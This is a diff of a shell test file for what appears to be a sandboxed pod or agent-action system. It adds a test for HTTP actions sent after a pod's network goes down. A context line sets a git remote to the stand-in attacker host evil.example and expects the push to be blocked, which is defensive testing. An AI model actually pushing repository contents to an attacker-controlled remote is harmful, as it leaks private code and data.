@@ -128,3 +128,10 @@ served() { git -C "$T/srv/repo.git" -c safe.directory='*' rev-parse -q --verify 
 	in_pod web git -C /var/tmp/work remote set-url origin https://evil.example/git/repo.git
 	failed git_push '{"working_dir":"/var/tmp/work"}' "certificate"
 }
+
+@test "an action of a pod that does not run finds its network" {
+	on_host envpod stop -t 0 web
+	on_host pod-net down web
+	done_ok http_get '{"url":"https://api.example/late"}'
+	sent '.target == "/late"'
+}
